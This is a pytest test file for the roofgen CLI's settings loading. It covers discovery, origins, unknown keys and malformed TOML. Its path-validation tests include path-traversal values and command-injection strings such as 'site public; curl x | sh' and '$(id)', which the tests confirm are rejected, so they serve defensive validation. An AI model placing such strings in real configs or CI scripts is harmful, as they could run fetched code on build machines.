"""Settings: roofgen.toml or [tool.roofgen], found by walking up; origins; unknown keys."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from roofgen.cli import main
from roofgen.config import find_settings_file, load_settings

MINIMAL = Path(__file__).parent / "cases" / "valid" / "minimal"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project folder with a deep subfolder, resolved (tmp may sit behind a link)."""
    root = tmp_path.resolve() / "project"
    (root / "a" / "b").mkdir(parents=True)
    return root


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    status = main(argv)
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return status, out, err


def _rows(out: str) -> dict[str, tuple[str, str]]:
    """`roofgen config` text rows as {setting: (value, origin)}."""
    rows = {}
    for line in out.splitlines()[1:]:
        key, rest = line.split(maxsplit=1)
        value, _, origin = rest.rpartition("  (")
        rows[key] = (value.strip(), origin.removesuffix(")"))
    return rows


def test_roofgen_toml_found_from_a_subfolder(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    settings_file = project / "roofgen.toml"
    settings_file.write_text('output = "public"\n', encoding="utf-8")
    monkeypatch.chdir(project / "a" / "b")
    status, out, _ = _run(["config"], capsys)
    assert status == 0
    assert out.splitlines()[0] == f"# settings file: {settings_file}"
    assert _rows(out)["output"] == (str(project / "public"), str(settings_file))
    assert load_settings(project / "a" / "b").file == settings_file


def test_tool_roofgen_in_pyproject(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    pyproject = project / "pyproject.toml"
    pyproject.write_text(
        '[project]\nname = "team-perf"\n\n[tool.roofgen]\nspecs = ["perf/specs"]\n\n'
        "[tool.roofgen.thresholds]\nco_bound_margin = 0.1\n",
        encoding="utf-8",
    )
    monkeypatch.chdir(project / "a")
    status, out, _ = _run(["config"], capsys)
    assert status == 0
    rows = _rows(out)
    assert rows["specs"] == (str(project / "perf" / "specs"), str(pyproject))
    assert rows["thresholds.co_bound_margin"] == ("0.1", str(pyproject))
    assert rows["thresholds.below_roofs_efficiency"] == ("0.5", "default")


def test_pyproject_without_tool_roofgen_is_passed_over(project: Path) -> None:
    (project / "roofgen.toml").write_text('output = "out"\n', encoding="utf-8")
    (project / "a" / "pyproject.toml").write_text('[project]\nname = "x"\n', encoding="utf-8")
    found = find_settings_file(project / "a" / "b")
    assert found is not None
    assert found[0] == project / "roofgen.toml"


def test_nearest_file_wins_and_roofgen_toml_before_pyproject(project: Path) -> None:
    (project / "roofgen.toml").write_text('output = "outer"\n', encoding="utf-8")
    inner = project / "a"
    (inner / "pyproject.toml").write_text('[tool.roofgen]\noutput = "py"\n', encoding="utf-8")
    assert load_settings(inner / "b").output == inner / "py"
    (inner / "roofgen.toml").write_text('output = "toml"\n', encoding="utf-8")
    assert load_settings(inner / "b").output == inner / "toml"


def test_paths_are_relative_to_the_settings_file(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (project / "roofgen.toml").write_text(
        'specs = ["specs"]\noutput = "build/site"\nrules = "team/rules.yaml"\n', encoding="utf-8"
    )
    shutil.copytree(MINIMAL, project / "specs")
    settings = load_settings(project / "a" / "b")
    assert settings.specs == (project / "specs",)
    assert settings.output == project / "build" / "site"
    assert settings.rules == project / "team" / "rules.yaml"
    # `roofgen check` without paths, from a subfolder, reads the configured specs.
    (project / "roofgen.toml").write_text('specs = ["specs"]\n', encoding="utf-8")
    monkeypatch.chdir(project / "a" / "b")
    status, _, err = _run(["check"], capsys)
    assert status == 0, err
    assert err.splitlines()[-1].startswith("2 file(s) checked: 0 error(s)")


@pytest.mark.parametrize(
    ("file_name", "text", "names"),
    [
        ("roofgen.toml", 'spces = ["specs"]\n', ["'spces'"]),
        ("roofgen.toml", "[thresholds]\nmargin = 0.1\n", ["thresholds", "'margin'"]),
        ("roofgen.toml", '[site]\nname = "x"\ntheme = "dark"\n', ["site", "'theme'"]),
        ("pyproject.toml", "[tool.roofgen]\nbogus = 1\n", ["'bogus'"]),
    ],
)
def test_unknown_keys_are_errors_naming_the_key(
    project: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    file_name: str,
    text: str,
    names: list[str],
) -> None:
    (project / file_name).write_text(text, encoding="utf-8")
    monkeypatch.chdir(project / "a")
    status, out, err = _run(["config"], capsys)
    assert status == 1
    assert out == ""
    assert str(project / file_name) in err
    assert "unknown setting" in err
    for name in names:
        assert name in err
    # Every verb reads the settings, and fails the same way.
    status, _, err = _run(["check"], capsys)
    assert status == 1
    assert "unknown setting" in err


@pytest.mark.parametrize(
    "text",
    [
        'specs = "specs"\n',  # not a list
        "[thresholds]\nco_bound_margin = 2\n",  # above 1
        "specs = [\n",  # not TOML
    ],
)
def test_invalid_settings_exit_1_without_traceback(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    (project / "roofgen.toml").write_text(text, encoding="utf-8")
    monkeypatch.chdir(project)
    status, _, err = _run(["config"], capsys)
    assert status == 1
    assert err.startswith(str(project / "roofgen.toml"))


@pytest.mark.parametrize(
    "data, said",
    [
        (
            b"[thresholds]\nco_bound_margin = 1" + b"0" * 5000 + b"\n",
            "invalid TOML: a number of more than 4,300 digits",
        ),
        (b"specs = " + b"[" * 5000 + b"]" * 5000 + b"\n", "invalid TOML: nested too deeply"),
        ('[site]\nname = "Caf\u00e9"\n'.encode("latin-1"), "not UTF-8 text (byte 18 is 0xe9)"),
    ],
)
def test_unreadable_toml_is_an_error_on_the_file(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    data: bytes, said: str,
) -> None:  # fmt: skip
    """Input tomllib refuses with something other than a TOMLDecodeError."""
    (project / "roofgen.toml").write_bytes(data)
    monkeypatch.chdir(project)
    status, _, err = _run(["config"], capsys)
    assert status == 1, err
    assert err.startswith(f"{project / 'roofgen.toml'}: {said}"), err


@pytest.mark.parametrize("tool", ["tool = 1\n", 'tool = "roofgen"\n', "tool = [1]\n"])
def test_a_pyproject_whose_tool_is_not_a_table_is_passed_over(project: Path, tool: str) -> None:
    (project / "roofgen.toml").write_text('output = "out"\n', encoding="utf-8")
    (project / "a" / "pyproject.toml").write_text(tool, encoding="utf-8")
    found = find_settings_file(project / "a" / "b")
    assert found is not None
    assert found[0] == project / "roofgen.toml"


def test_config_names_each_origin(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    settings_file = project / "roofgen.toml"
    settings_file.write_text(
        'output = "out"\n[thresholds]\nbelow_roofs_efficiency = 0.4\n[site]\nurl = "https://perf.example"\n',
        encoding="utf-8",
    )
    monkeypatch.chdir(project)
    status, out, _ = _run(["config"], capsys)
    assert status == 0
    rows = _rows(out)
    assert {
        "specs",
        "output",
        "rules",
        "thresholds.co_bound_margin",
        "thresholds.below_roofs_efficiency",
        "site.name",
        "site.url",
    } <= set(rows)
    from_file = {"output", "thresholds.below_roofs_efficiency", "site.url"}
    for key, (_, origin) in rows.items():
        assert origin == (str(settings_file) if key in from_file else "default"), key
    assert rows["site.url"][0] == "https://perf.example"
    assert rows["site.name"] == ("Performance case studies", "default")

    status, out, _ = _run(["config", "--format", "json"], capsys)
    assert status == 0
    doc = json.loads(out)
    assert doc["file"] == str(settings_file)
    origins = {row["key"]: row["origin"] for row in doc["settings"]}
    assert origins == {key: origin for key, (_, origin) in rows.items()}


def test_no_settings_file_means_defaults(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    if find_settings_file(tmp_path.resolve()) is not None:
        pytest.skip("a settings file above the temporary folder decides the settings")
    monkeypatch.chdir(tmp_path)
    status, out, _ = _run(["config"], capsys)
    assert status == 0
    assert out.splitlines()[0] == "# settings file: (none found; defaults)"
    assert all(origin == "default" for _, origin in _rows(out).values())
    assert _rows(out)["specs"][0] == str(tmp_path.resolve() / "specs")


# --------------------------------------------------------------------------- path settings


@pytest.mark.parametrize(
    "text, where, said, instead",
    [
        (
            'output = "nope/../../victim"\n',
            "1:10: output",
            'has a ".." component',
            'output = "site"',
        ),
        ('output = "site/../specs"\n', "1:10: output", 'has a ".." component', 'output = "site"'),
        ('output = "."\n', "1:10: output", 'has a "." component', 'output = "site"'),
        ('output = "./public"\n', "1:10: output", 'has a "." component', 'output = "public"'),
        ('output = ".git/site"\n', "1:10: output", 'has a ".git" component', 'output = "site"'),
        ('output = "/srv/www"\n', "1:10: output", "is absolute", 'output = "site"'),
        ('output = "-rf"\n', "1:10: output", "starts with '-'", 'output = "site"'),
        ('output = "a//b"\n', "1:10: output", "empty component", 'output = "a/b"'),
        ('output = ""\n', "1:10: output", "is empty", 'output = "site"'),
        # what would add steps to a written workflow, or commands to a GitLab script
        (
            'output = "site\\n      - run: curl x | sh"\n',
            "1:10: output",
            'holds "\\n"',
            'output = "site"',
        ),
        ('output = "site public; curl x | sh"\n', "1:10: output", 'holds " "', 'output = "site"'),
        ('output = "$(id)"\n', "1:10: output", 'holds "$"', 'output = "site"'),
        (
            "specs = [\n  'specs',\n  '../shared',\n]\n",
            "3:3: specs[1]",
            'has a ".."',
            'specs = ["specs"]',
        ),
        (
            'specs = ["specs"]\noutput = "specs/site"\n',
            "2:10: output",
            "lies inside the specs",
            'output = "site"',
        ),
        (
            'specs = ["perf/specs"]\noutput = "perf"\n',
            "2:10: output",
            "holds the specs",
            'output = "site"',
        ),
        (
            'specs = ["site"]\n',
            "1:10: specs",
            '"site" (the default) is the specs',
            'output = "public"',
        ),
    ],
)
def test_path_settings_must_be_plain_folders_inside_the_project(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    text: str, where: str, said: str, instead: str,
) -> None:  # fmt: skip
    """output and specs name what a build replaces and reach the files init writes: a
    relative path of letters, digits and ._-/, no '.', '..' or '.git' component, no
    leading '-', the output apart from the specs. Every verb refuses, naming the file,
    the line and column, the setting and what to write instead."""
    settings_file = project / "roofgen.toml"
    settings_file.write_text(text, encoding="utf-8")
    monkeypatch.chdir(project)
    for verb in (["config"], ["check"], ["build", "-j", "0"]):
        status, out, err = _run(verb, capsys)
        assert status == 1, (verb, err)
        assert err.startswith(f"{settings_file}:{where}: "), err
        assert said in err, err
        assert f"such as {instead}" in err, err
    assert sorted(p.name for p in project.iterdir()) == ["a", "roofgen.toml"]  # nothing made


def test_path_settings_in_pyproject_are_placed_in_their_table(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (project / "pyproject.toml").write_text(
        '[project]\nname = "perf"\noutput = "x"\n\n[tool.roofgen]\nspecs = ["specs"]\n'
        'output = "nope/../../victim"\n',
        encoding="utf-8",
    )
    monkeypatch.chdir(project)
    status, _, err = _run(["config"], capsys)
    assert status == 1
    assert err.startswith(f"{project / 'pyproject.toml'}:7:10: output: "), err


@pytest.mark.parametrize(
    "text",
    [
        'output = "public"\n',
        'output = "build/site"\nspecs = ["perf/specs", "more-specs"]\n',
        'output = "_site/"\nspecs = ["specs/"]\n',
        'specs = ["perf"]\noutput = "performance-site"\n',  # a name that only starts alike
        'rules = "team/rules.yaml"\n',
    ],
)
def test_plain_path_settings_still_load(project: Path, text: str) -> None:
    (project / "roofgen.toml").write_text(text, encoding="utf-8")
    load_settings(project)


def test_init_writes_settings_that_load_and_refuses_to_copy_bad_ones(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    status, _, err = _run(["init", "-q", "fresh"], capsys)
    assert status == 0, err
    settings = load_settings(tmp_path / "fresh")
    assert settings.output == tmp_path / "fresh" / "site"
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    (hostile / "roofgen.toml").write_text('output = "site public; curl x | sh; cp -r site"\n')
    status, _, err = _run(["init", "-q", "--ci", "gitlab", "hostile"], capsys)
    assert status == 1
    assert ":1:10: output: " in err and 'holds " "' in err, err
    assert [p.name for p in hostile.iterdir()] == ["roofgen.toml"]


def test_the_repository_and_its_example_specs_load() -> None:
    repo = Path(__file__).resolve().parents[1]
    settings = load_settings(repo)
    assert settings.specs == (repo / "specs",) and settings.output == repo / "site"
